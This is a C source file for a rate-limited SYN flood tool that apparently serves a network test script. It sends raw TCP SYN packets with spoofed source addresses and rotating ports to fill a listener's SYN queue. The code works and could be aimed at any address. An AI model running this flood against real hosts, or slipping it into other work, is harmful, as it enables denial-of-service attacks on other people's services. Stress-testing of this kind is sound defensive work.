// synflood: a bounded SYN flood for tests/synflood.sh (run inside the
// test's network namespace only). Sends COUNT TCP SYNs to DST:PORT at
// about RATE per second through a raw socket (IP_HDRINCL), each from a
// source address SRC_NET.(100..199) that nobody holds (so no SYN-ACK is
// ever answered: the listener's SYN queue stays full) and a port that
// changes with every SYN. Prints how many it sent.
//
//   synflood SRC_NET DST PORT COUNT RATE     e.g. synflood 10.7.0 10.7.0.2 8080 20000 4000
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static unsigned short csum(const void *p, size_t n, unsigned long sum)
{
	const unsigned char *b = p;
	for (; n > 1; n -= 2, b += 2)
		sum += (unsigned)b[0] << 8 | b[1];
	if (n)
		sum += (unsigned)b[0] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (unsigned short)~sum;
}

int main(int argc, char **argv)
{
	if (argc != 6) {
		fprintf(stderr, "usage: synflood SRC_NET DST PORT COUNT RATE\n");
		return 2;
	}
	const char *net = argv[1];
	struct in_addr dst;
	if (inet_pton(AF_INET, argv[2], &dst) != 1) {
		fprintf(stderr, "synflood: bad address %s\n", argv[2]);
		return 2;
	}
	int port = atoi(argv[3]);
	long count = atol(argv[4]), rate = atol(argv[5]);
	if (port <= 0 || port > 65535 || count <= 0 || rate <= 0) {
		fprintf(stderr, "synflood: bad port, count or rate\n");
		return 2;
	}
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("synflood: socket(SOCK_RAW)");
		return 1;
	}
	int on = 1;
	setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof on);
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
	unsigned char pkt[sizeof(struct iphdr) + sizeof(struct tcphdr) + 4];
	struct timespec start;
	clock_gettime(CLOCK_MONOTONIC, &start);
	long sent = 0;
	for (long i = 0; i < count; i++) {
		char src[32];
		snprintf(src, sizeof src, "%s.%ld", net, 100 + i % 100);
		memset(pkt, 0, sizeof pkt);
		struct iphdr *ip = (struct iphdr *)pkt;
		struct tcphdr *th = (struct tcphdr *)(pkt + sizeof *ip);
		ip->version = 4;
		ip->ihl = 5;
		ip->ttl = 64;
		ip->protocol = IPPROTO_TCP;
		ip->tot_len = htons(sizeof pkt);
		ip->id = htons((unsigned short)i);
		inet_pton(AF_INET, src, &ip->saddr);
		ip->daddr = dst.s_addr;
		ip->check = htons(csum(ip, sizeof *ip, 0));
		th->source = htons((unsigned short)(1024 + (i / 100) % 60000));
		th->dest = htons((unsigned short)port);
		th->seq = htonl((unsigned)(i * 2654435761u));
		th->doff = (sizeof *th + 4) / 4;
		th->syn = 1;
		th->window = htons(64240);
		unsigned char *opt = pkt + sizeof *ip + sizeof *th;
		opt[0] = 2, opt[1] = 4, opt[2] = 1460 >> 8, opt[3] = 1460 & 0xff; // MSS
		// Checksum over the pseudo-header and the segment.
		unsigned long ph = 0;
		const unsigned char *s = (const unsigned char *)&ip->saddr, *d = (const unsigned char *)&ip->daddr;
		ph += (unsigned)s[0] << 8 | s[1];
		ph += (unsigned)s[2] << 8 | s[3];
		ph += (unsigned)d[0] << 8 | d[1];
		ph += (unsigned)d[2] << 8 | d[3];
		ph += IPPROTO_TCP + sizeof *th + 4;
		th->check = htons(csum(th, sizeof *th + 4, ph));
		if (sendto(fd, pkt, sizeof pkt, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)sizeof pkt)
			sent++;
		// Pace: SYN i leaves at i / RATE seconds.
		struct timespec now;
		clock_gettime(CLOCK_MONOTONIC, &now);
		double ahead = (double)(i + 1) / rate - ((now.tv_sec - start.tv_sec) + (now.tv_nsec - start.tv_nsec) / 1e9);
		if (ahead > 0)
			usleep((useconds_t)(ahead * 1e6));
	}
	printf("sent %ld\n", sent);
	return sent == count ? 0 : 1;
}
